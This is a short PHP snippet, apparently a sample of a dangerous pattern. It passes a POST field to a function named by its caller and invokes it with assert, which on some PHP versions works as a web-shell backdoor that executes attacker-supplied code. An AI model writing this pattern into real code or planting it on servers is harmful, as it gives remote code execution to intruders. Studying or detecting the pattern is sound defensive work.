<?php
// A wrapper that calls whatever function its caller names, given a
// dangerous function name as a bare word.
function run_it($fn) {
    $fn($_POST['x']);
}
run_it(assert);
